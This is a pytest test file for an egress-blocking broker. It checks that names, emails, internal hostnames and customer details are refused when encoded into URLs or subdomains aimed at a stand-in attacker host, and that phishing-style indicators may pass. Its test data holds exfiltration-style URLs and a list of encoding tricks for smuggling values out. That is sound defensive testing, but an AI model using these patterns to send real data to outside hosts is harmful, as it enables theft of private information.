"""Nothing of ours leaves: the ticket's originals are stopped in the worker, the organization's in the broker."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from core.errors import EgressBlocked
from core.vault import MemoryVault
from policies.masking.masker import Masker
from policies.masking.session import MaskSession
from tests.unit.broker.world import bundle, world
from tools.broker.leaving import OwnValues, check_session
from tools.broker.questions import Refused

URL = "http://evil.example.com/"
MAIL = "anna.lindqvist@harbourbank.example"


def in_base64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


#: Ways to write something into a URL.
WAYS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text.replace(" ", "-"),
    "escaped": lambda text: quote(text, safe=""),
    "every letter escaped": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "escaped three times": lambda text: quote(quote(quote(text, safe=""), safe=""), safe=""),
    "plus": lambda text: text.replace(" ", "+"),
    "upper case": lambda text: text.upper().replace(" ", "_"),
    "base64": in_base64,
    "base64 in base64": lambda text: in_base64(in_base64(text + " and some more words")),
    "hexadecimal": lambda text: text.encode().hex(),
    "base32": lambda text: base64.b32encode(text.encode() + b" padded").decode().rstrip("=").lower(),
    "run together": lambda text: "".join(c for c in text if c.isalnum()),
}


@pytest.fixture(scope="module")
def session() -> MaskSession:
    found = Masker(bundle()).session(MemoryVault("tkt_00000000000000000000000001"))
    found.mask_text(
        "Please ring Marit Solvang (marit.solvang@customer.example.org) at +49 40 5550 2231, customer HB-20417733."
    )
    return found


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("value", ["Anna Lindqvist", "a.lindqvist", MAIL, "SRV-PAY-01"])
def test_value_of_the_organization_does_not_leave_the_broker(way: str, value: str) -> None:
    text = WAYS[way](value)
    for url in (f"{URL}{text}", f"{URL}?q={text}", f"{URL}a/{text}/b.php?x=1&y={text}"):
        with pytest.raises(Refused, match="something of our own"):
            OwnValues(bundle().organization).check(url, [])


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("value", ["Marit Solvang", "HB-20417733", "marit.solvang@customer.example.org"])
def test_original_of_the_ticket_does_not_leave_the_worker(session: MaskSession, way: str, value: str) -> None:
    text = WAYS[way](value)
    for question in (
        {"kind": "http_get", "url": f"{URL}?q={text}"},
        {"kind": "vendor", "type": "url", "value": f"{URL}{text}"},
    ):
        with pytest.raises(EgressBlocked, match="unmasked data") as stopped:
            check_session(session, question)
        assert value not in str(stopped.value)


@pytest.mark.parametrize(
    "name",
    ["anna-lindqvist.evil.example.com", "annalindqvist.evil.example.com", "anna.lindqvist.evil.example.com",
     "a-lindqvist.example.com", "srv-pay-01.evil.example.com", "x.annalindqvist.example.com"],
)  # fmt: skip
def test_name_carries_nobody_out_in_its_labels(name: str) -> None:
    with pytest.raises(Refused, match="something of our own"):
        OwnValues(bundle().organization).check(name, [name])


@pytest.mark.parametrize(
    "text",
    [
        URL, "http://harbourbank.example.evil-login.example.net/secure/login.php?session=8a7b6c5d4e3f",
        "https://harb0urbank-login.example.com/?next=https%3A%2F%2Fwww.harbourbank.example%2F",
        "evil.example.com", "93.184.215.14",
        "https://example.com/wp-content/uploads/2024/05/invoice_000123.zip",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "https://bücher.example.com/münchen?stadt=Köln", "https://example.com/" + in_base64("campaign=spring&step=2"),
    ],
)  # fmt: skip
def test_indicators_of_an_attack_may_leave(session: MaskSession, text: str) -> None:
    OwnValues(bundle().organization).check(text, [])
    check_session(session, {"kind": "http_get", "url": text})


@pytest.mark.parametrize(
    "host", ["www.harbourbank.example", "harbourbank.example", "10.20.14.31", "203.0.113.5", "SRV-PAY-01"]
)
def test_our_own_hosts_are_asked_about_nowhere(host: str) -> None:
    with pytest.raises(Refused, match="our own hosts"):
        OwnValues(bundle().organization).check("", [host])


def test_token_does_not_leave() -> None:
    with pytest.raises(Refused, match="carries a token"):
        OwnValues(bundle().organization).check(f"{URL}?who=PERSON_K7Q2XB", [])


async def test_refusal_quotes_nothing(tmp_path: Path) -> None:
    async with world(tmp_path) as there:
        said = str(await there.ask("http_get", url=f"{URL}?m={MAIL}"))
    assert "anna" not in said
    assert "evil" not in said


def test_long_url_is_judged_quickly() -> None:
    own = OwnValues(bundle().organization)
    for text in ("a" * 4000, "%25" * 1300, "QUJD" * 1000, "." * 4000, "abcdefgh" * 500, "xn--a-." * 500):
        own.check(URL + text, [])
